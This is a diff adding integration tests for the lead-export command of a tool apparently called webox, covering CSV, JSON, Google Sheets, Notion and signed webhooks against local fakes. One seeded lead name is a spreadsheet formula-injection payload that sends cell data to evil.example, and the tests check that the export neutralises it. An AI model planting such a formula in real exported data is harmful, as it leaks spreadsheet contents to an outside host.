@@ -1,0 +1,292 @@
+"""webox leads export through the real binary: files and stdout, Google Sheets,
+Notion and signed webhooks against the loopback fakes in tests/fakes/fake_export.py,
+incremental sync, and bad input."""
+import base64
+import csv
+import io
+import json
+import os
+import sqlite3
+import subprocess
+import time
+import urllib.request
+
+from harness import WeboxTestCase, free_port, main
+
+
+def read(path):
+    with open(path) as f:
+        return f.read()
+
+EMAIL = "webox-export@test-project.iam.gserviceaccount.com"
+SECRET = "whsec_" + base64.b64encode(b"webox-export-test-secret-0123456789").decode()
+SHEET = "1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789"
+DATABASE = "0123456789abcdef0123456789abcdef"
+
+# Who the seeded leads are: two questions each (above the lead threshold),
+# two with a phone number, two with an e-mail address.
+PEOPLE = [
+    ("1", "marie.dupont", "Marie Dupont", "Dispo ? 06 12 34 56 78"),
+    ("2", "evil", '=HYPERLINK("http://evil.example/?"&A1)', "Prix ? 06 98 76 54 32"),
+    ("3", "paul", 'Paul "PJ", Jr', "écrivez-moi: paul@exemple.fr"),
+    ("4", "nophone", "-minus", "mail: zoe@exemple.fr merci"),
+]
+
+
+class ExportCase(WeboxTestCase):
+    def setUp(self):
+        super().setUp()
+        now = int(time.time()) - 3600
+        path = os.path.join(self.home, "seed.jsonl")
+        with open(path, "w") as f:
+            for i, (pid, user, name, text) in enumerate(PEOPLE):
+                for n, t in enumerate([text, "Combien ? infos svp"]):
+                    f.write(json.dumps({"platform": "instagram", "platform_id": f"c{i}-{n}", "kind": "comment",
+                                        "person": {"id": pid, "username": user, "name": name}, "text": t,
+                                        "timestamp": now - i - n, "post": "p1"}) + "\n")
+        self.webox("scrape-interactions", "--from", path, check=0)
+        self.env["WEBOX_RETRY_BASE_MS"] = "10"
+        self.leads = [json.loads(l) for l in self.webox("leads", "list", "--jsonl", check=0).out.splitlines()]
+        self.assertEqual(len(self.leads), len(PEOPLE), self.leads)
+
+    def db(self):
+        return sqlite3.connect(os.path.join(self.home, "data", "webox", "webox.db"))
+
+
+class FileExportTest(ExportCase):
+    def test_csv_is_rfc4180_guarded_and_keeps_e164(self):
+        out = os.path.join(self.home, "leads.csv")
+        self.webox("leads", "export", "-o", out, "--bom", check=0)
+        with open(out, "rb") as f:
+            raw = f.read()
+        self.assertTrue(raw.startswith(b"\xef\xbb\xbf"))
+        self.assertIn(b"\r\n", raw)
+        rows = list(csv.DictReader(io.StringIO(raw[3:].decode("utf-8"), newline="")))
+        self.assertEqual(len(rows), len(PEOPLE))
+        by_user = {r["username"]: r for r in rows}
+        self.assertEqual(by_user["marie.dupont"]["phones"], "+33612345678")  # E.164 stays as is
+        self.assertEqual(by_user["evil"]["name"], "'" + PEOPLE[1][2])       # formula neutralised
+        self.assertEqual(by_user["nophone"]["name"], "'-minus")
+        self.assertEqual(by_user["paul"]["name"], PEOPLE[2][2])              # quotes and comma round-trip
+        self.assertEqual(by_user["paul"]["emails"], "paul@exemple.fr")
+        self.assertEqual(sorted(int(r["id"]) for r in rows), sorted(l["id"] for l in self.leads))
+        # Written under a temporary name, then renamed: nothing else is left.
+        self.assertEqual([f for f in os.listdir(self.home) if "leads.csv" in f], ["leads.csv"])
+        self.assertEqual(os.stat(out).st_mode & 0o777, 0o600)
+
+    def test_json_jsonl_fields_and_filters(self):
+        r = self.webox("leads", "export", "--format", "jsonl", "--fields", "username,phone,score", check=0)
+        lines = [json.loads(l) for l in r.out.splitlines()]
+        self.assertEqual([list(l.keys()) for l in lines], [["username", "phone", "score"]] * len(PEOPLE))
+        self.assertEqual({l["username"]: l["phone"] for l in lines}["marie.dupont"], "+33612345678")
+        self.assertIsNone({l["username"]: l["phone"] for l in lines}["paul"])
+        arr = self.webox("leads", "export", "--format", "json", "--has-phone", check=0).json()
+        self.assertEqual(sorted(a["username"] for a in arr), ["evil", "marie.dupont"])
+        self.assertEqual(arr[0]["phones"][0][:3], "+33")
+        empty = self.webox("leads", "export", "--format", "json", "--min-score", "100", check=0).json()
+        self.assertEqual(empty, [])
+
+    def test_bad_input_exits_2_and_writes_nothing(self):
+        out = os.path.join(self.home, "x.csv")
+        cases = [
+            (["--fields", "username,shoe_size"], "unknown field 'shoe_size'"),
+            (["--format", "xlsx"], "not csv, json or jsonl"),
+            (["--to", "ftp:server"], "unknown destination 'ftp'"),
+            (["--to", f"sheets:{SHEET}/Leads!1A"], "not a range in A1 notation"),
+            (["--to", f"sheets:{SHEET}/"], "give the range"),
+            (["--to", "notion:not-an-id"], "not a database id"),
+            (["--to", "webhook:mailto:a@b"], "not an http"),
+            (["--since-last"], "--since-last needs"),
+            (["--map", "phone=Phone"], "--map applies"),
+            (["--to", "webhook:http://127.0.0.1:9/h", "--format", "json"], "--format applies"),
+        ]
+        for args, message in cases:
+            r = self.webox("leads", "export", "-o", out, *args, check=2) if "--to" not in args and "--since-last" not in args \
+                else self.webox("leads", "export", *args, check=2)
+            self.assertIn(message, r.err, args)
+            self.assertFalse(os.path.exists(out), args)
+        self.assertEqual([f for f in os.listdir(self.home) if f.startswith(".x.csv")], [])
+
+    def test_since_last_for_a_file(self):
+        out = os.path.join(self.home, "inc.jsonl")
+        first = self.webox("leads", "export", "--format", "jsonl", "-o", out, "--since-last", "--json", check=0).json()
+        self.assertEqual(first["sent"], len(PEOPLE))
+        self.assertTrue(first["state_advanced"])
+        again = self.webox("leads", "export", "--format", "jsonl", "-o", out, "--since-last", "--json", check=0).json()
+        self.assertEqual(again["sent"], 0)
+        time.sleep(0.01)
+        self.webox("leads", "set-status", "@paul", "contacted", check=0)
+        third = self.webox("leads", "export", "--format", "jsonl", "-o", out, "--since-last", "--json", check=0).json()
+        self.assertEqual(third["sent"], 1)
+        self.assertEqual(json.loads(read(out))["username"], "paul")
+
+
+class RemoteCase(ExportCase):
+    def setUp(self):
+        super().setUp()
+        key = os.path.join(self.home, "sa.pem")
+        pub = os.path.join(self.home, "sa.pub.pem")
+        subprocess.run(["openssl", "genpkey", "-algorithm", "RSA", "-pkeyopt", "rsa_keygen_bits:2048", "-out", key],
+                       check=True, capture_output=True)
+        subprocess.run(["openssl", "pkey", "-in", key, "-pubout", "-out", pub], check=True, capture_output=True)
+        self.fake = self.start_fake("fake_export.py", pub, EMAIL, SECRET)
+        self.key_file = os.path.join(self.home, "service-account.json")
+        with open(self.key_file, "w") as f:
+            json.dump({"type": "service_account", "project_id": "test-project", "private_key_id": "k1",
+                       "private_key": read(key), "client_email": EMAIL,
+                       "token_uri": self.fake.url + "/token"}, f)
+        os.remove(key)
+        self.env.update({"GOOGLE_APPLICATION_CREDENTIALS": self.key_file, "SHEETS_BASE_URL": self.fake.url,
+                         "NOTION_BASE_URL": self.fake.url, "NOTION_TOKEN": "secret_test",
+                         "WEBOX_WEBHOOK_SECRET": SECRET})
+
+    def control(self, **doc):
+        req = urllib.request.Request(self.fake.url + "/__control", data=json.dumps(doc).encode(), method="POST")
+        with urllib.request.urlopen(req, timeout=5) as r:
+            r.read()
+
+    def state(self):
+        with urllib.request.urlopen(self.fake.url + "/__state", timeout=5) as r:
+            return json.loads(r.read())
+
+    def calls(self, prefix):
+        return [r for r in self.fake.requests() if r["path"].startswith(prefix)]
+
+
+class SheetsTest(RemoteCase):
+    def test_append_with_a_service_account_token_cached_and_429_backed_off(self):
+        self.control(sheets_429=1)
+        to = f"sheets:{SHEET}/Leads!A1"
+        r = self.webox("leads", "export", "--to", to, "--batch", "2", "--fields", "id,username,phones,score", "--json", check=0)
+        self.assertEqual(r.json()["sent"], len(PEOPLE))
+        rows = self.state()["sheets"][SHEET]
+        self.assertEqual(len(rows), len(PEOPLE))
+        self.assertIn([self.leads[0]["id"], self.leads[0]["person"]["username"], " ".join(self.leads[0]["phones"]),
+                       self.leads[0]["score"]], rows)
+        self.assertEqual(self.state()["tokens_issued"], 1)  # one exchange for every batch
+        appends = self.calls("/v4/spreadsheets/")
+        self.assertEqual(len(appends), 2 + 1)  # 4 leads in batches of 2, one 429 retried
+        self.assertEqual(appends[0]["path"], f"/v4/spreadsheets/{SHEET}/values/Leads!A1:append")
+        self.assertEqual(appends[0]["query"]["valueInputOption"], "RAW")
+        # No secret reached the output or the database.
+        token = self.calls("/v4/")[0]["headers"]["authorization"][7:]
+        self.assertNotIn(token, r.out + r.err)
+        dump = "\n".join(self.db().iterdump())
+        self.assertNotIn(token, dump)
+        self.assertNotIn("PRIVATE KEY", dump)
+        # Incremental: nothing new, nothing sent.
+        self.control(reset_requests=True)
+        again = self.webox("leads", "export", "--to", to, "--since-last", "--json", check=0).json()
+        self.assertEqual(again["sent"], 0)
+        self.assertEqual(self.calls("/v4/"), [])
+
+    def test_refused_grant_and_permission_exit_4(self):
+        self.control(invalid_grant=True)
+        r = self.webox("leads", "export", "--to", f"sheets:{SHEET}/Leads", check=4)
+        self.assertIn("invalid_grant", r.err)
+        self.control(invalid_grant=False, sheets_403=True)
+        r = self.webox("leads", "export", "--to", f"sheets:{SHEET}/Leads", check=4)
+        self.assertIn("PERMISSION_DENIED", r.err)
+        # A key signed by another key pair is refused by the token endpoint.
+        other = os.path.join(self.home, "other.pem")
+        subprocess.run(["openssl", "genpkey", "-algorithm", "RSA", "-out", other], check=True, capture_output=True)
+        doc = json.loads(read(self.key_file))
+        doc["private_key"] = read(other)
+        with open(self.key_file, "w") as f:
+            json.dump(doc, f)
+        r = self.webox("leads", "export", "--to", f"sheets:{SHEET}/Leads", check=4)
+        self.assertIn("Invalid JWT Signature", r.err)
+        self.webox("leads", "export", "--to", f"sheets:{SHEET}/Leads", env={"GOOGLE_APPLICATION_CREDENTIALS": ""}, check=4)
+
+
+class NotionTest(RemoteCase):
+    def test_pages_rate_limit_wrong_type_then_fixed_mapping_updates_pages(self):
+        # "Phone" is a text property in this database: leads with a phone are
+        # refused, the others are created, and the state does not advance.
+        schema = {"Name": "title", "Score": "number", "Status": "select", "Phone": "rich_text", "Email": "email"}
+        self.control(schema=schema, notion_429=1)
+        to = f"notion:{DATABASE}"
+        mapping = "username=Name,score=Score,status=Status,phone=Phone,email=Email"
+        r = self.webox("leads", "export", "--to", to, "--map", mapping, "--since-last", "--json", check=3)
+        summary = r.json()
+        refused = {x["lead"] for x in summary["rejected"]}
+        with_phone = {l["id"] for l in self.leads if l["phones"]}
+        self.assertEqual(refused, with_phone)
+        self.assertIn("Phone is expected to be rich_text", r.err)
+        self.assertIn("@marie.dupont", r.err)
+        self.assertFalse(summary["state_advanced"])
+        pages = self.state()["pages"]
+        self.assertEqual(len(pages), len(PEOPLE) - len(with_phone))
+        page = next(p for p in pages.values() if p["Name"]["title"][0]["text"]["content"] == "paul")
+        self.assertEqual(page["Email"], {"email": "paul@exemple.fr"})
+        self.assertEqual(page["Status"], {"select": {"name": "new"}})
+        for req in self.calls("/v1/"):
+            self.assertEqual(req["headers"]["notion-version"], "2022-06-28")
+        self.assertEqual(self.state()["notion_violations"], 0)
+
+        # Fixed mapping: everything is sent again (the state did not move);
+        # leads already created update their page instead of adding one.
+        self.control(reset_requests=True)
+        r = self.webox("leads", "export", "--to", to, "--map", mapping.replace("Phone", "Phone:rich_text"), "--since-last",
+                       "--json", check=0)
+        self.assertEqual(r.json()["sent"], len(PEOPLE))
+        self.assertEqual(len(self.state()["pages"]), len(PEOPLE))
+        methods = sorted(req["method"] for req in self.calls("/v1/pages"))
+        self.assertEqual(methods.count("PATCH"), len(PEOPLE) - len(with_phone))
+        marie = next(p for p in self.state()["pages"].values() if p["Name"]["title"][0]["text"]["content"] == "marie.dupont")
+        self.assertEqual(marie["Phone"]["rich_text"][0]["text"]["content"], "+33612345678")
+
+    def test_missing_token_exits_4(self):
+        r = self.webox("leads", "export", "--to", f"notion:{DATABASE}", env={"NOTION_TOKEN": ""}, check=4)
+        self.assertIn("NOTION_TOKEN", r.err)
+        r = self.webox("leads", "export", "--to", f"notion:{DATABASE}", env={"NOTION_TOKEN": "wrong"}, check=4)
+
+
+class WebhookTest(RemoteCase):
+    def test_signed_batches_retried_with_the_same_id(self):
+        self.control(webhook_script=[500])
+        r = self.webox("leads", "export", "--to", "webhook:" + self.fake.url + "/hook", "--batch", "3", "--json", check=0)
+        self.assertEqual(r.json()["sent"], len(PEOPLE))
+        deliveries = self.state()["deliveries"]
+        self.assertEqual([d["status"] for d in deliveries], [500, 204, 204])
+        self.assertEqual(deliveries[0]["id"], deliveries[1]["id"])
+        self.assertNotEqual(deliveries[1]["id"], deliveries[2]["id"])
+        sent = [lead for d in deliveries[1:] for lead in json.loads(d["body"])["data"]]
+        self.assertEqual(sorted(l["id"] for l in sent), sorted(l["id"] for l in self.leads))
+        self.assertEqual(json.loads(deliveries[1]["body"])["type"], "leads.exported")
+        marie = next(l for l in sent if l["username"] == "marie.dupont")
+        self.assertEqual(marie["phones"], ["+33612345678"])  # JSON lists in JSON bodies
+        self.assertNotIn(SECRET, r.out + r.err)
+        # The secret may live in the key store instead of the environment.
+        self.webox("keys", "set", "WEBOX_WEBHOOK_SECRET", stdin=SECRET + "\n", check=0)
+        self.control(reset_requests=True)
+        r = self.webox("leads", "export", "--to", "webhook:" + self.fake.url + "/hook", "--json",
+                       env={"WEBOX_WEBHOOK_SECRET": ""}, check=0)
+        self.assertEqual(r.json()["sent"], len(PEOPLE))
+        self.assertEqual(self.state()["deliveries"][-1]["status"], 204)
+
+    def test_failed_export_does_not_advance_and_bad_secrets(self):
+        hook = "webhook:" + self.fake.url + "/hook"
+        self.control(webhook_script=[503] * 10)
+        self.webox("leads", "export", "--to", hook, "--since-last", env={"WEBOX_RETRIES": "2"}, check=75)
+        self.control(webhook_script=[])
+        r = self.webox("leads", "export", "--to", hook, "--since-last", "--json", check=0)
+        self.assertEqual(r.json()["sent"], len(PEOPLE))
+        # A 400 is the receiver's verdict: not retried, leads listed, exit 3.
+        self.webox("leads", "set-status", "@paul", "contacted", check=0)
+        self.control(webhook_script=[400])
+        r = self.webox("leads", "export", "--to", hook, "--since-last", "--json", check=3)
+        self.assertEqual([x["lead"] for x in r.json()["rejected"]], [l["id"] for l in self.leads if l["person"]["username"] == "paul"])
+        self.assertEqual([d["status"] for d in self.state()["deliveries"]][-1], 400)
+        # Unsigned is refused before sending; a wrong secret is refused by the receiver.
+        self.webox("leads", "export", "--to", hook, env={"WEBOX_WEBHOOK_SECRET": ""}, check=4)
+        self.webox("leads", "export", "--to", hook, env={"WEBOX_WEBHOOK_SECRET": "plain"}, check=4)
+        other = "whsec_" + base64.b64encode(b"another-secret-entirely-000000").decode()
+        self.webox("leads", "export", "--to", hook, env={"WEBOX_WEBHOOK_SECRET": other}, check=4)
+        # Unreachable: exit 75.
+        self.webox("leads", "export", "--to", f"webhook:http://127.0.0.1:{free_port()}/hook",
+                   env={"WEBOX_RETRIES": "0"}, check=75)
+
+
+if __name__ == "__main__":
+    main()
